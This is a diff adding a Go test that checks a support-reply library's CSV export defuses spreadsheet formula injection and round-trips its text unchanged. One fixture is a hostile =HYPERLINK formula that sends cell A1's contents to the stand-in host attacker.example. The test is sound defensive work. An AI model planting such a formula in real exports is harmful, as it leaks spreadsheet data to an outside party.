@@ -2,9 +2,11 @@ package libio
 
 import (
 	"bytes"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"flag"
+	"fmt"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -579,5 +581,58 @@ func TestMergeKeepsSituations(t *testing.T) {
 	}
 	if d := libdiff.Diff(lib, back); !d.Empty() || !reflect.DeepEqual(back.Feelings, lib.Feelings) {
 		t.Errorf("the JSON export changed the library:\n%s", d)
+	}
+}
+
+// A library's text that a spreadsheet would run as a formula goes out as
+// text (after an apostrophe) and comes back as it was, as do texts that
+// begin with an apostrophe themselves.
+func TestRepliesCSVFormulas(t *testing.T) {
+	lib := defaultLibrary(t)
+	texts := []string{
+		`=HYPERLINK("https://attacker.example/?"&A1,"Track your order")`,
+		"+1 thanks for asking about your order",
+		"-2 days is how long a refund takes",
+		"@SUM(1+1) orders arrived",
+		"'=already quoted by hand",
+		"''+twice",
+		"'tis the season for refunds",
+	}
+	in := &lib.Intents[0]
+	for i, s := range texts {
+		r := in.Replies[0]
+		r.ID = fmt.Sprintf("formula_%d", i)
+		r.Title = s
+		r.Body = "Hi {{customer.first_name}}, " + s + "."
+		r.Promises, r.Shortcut = nil, ""
+		in.Replies = append(in.Replies, r)
+	}
+	in.Phrasings = append(in.Phrasings, "=1+1 where is my parcel")
+	var buf bytes.Buffer
+	if err := WriteRepliesCSV(&buf, lib); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows {
+		for _, c := range row {
+			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
+				t.Errorf("a cell a spreadsheet would run: %q", c)
+			}
+		}
+	}
+	imp, err := ReadRepliesCSV("formulas.csv", buf.Bytes())
+	if err != nil {
+		t.Fatal(err)
+	}
+	back, err := Merge(Base(lib), "default.json", imp)
+	if err != nil {
+		t.Fatal(err)
+	}
+	back.Name = lib.Name
+	if !reflect.DeepEqual(lib.Intents, back.Intents) {
+		t.Errorf("the CSV round trip changed the library:\n%s", libdiff.Diff(lib, back))
 	}
 }
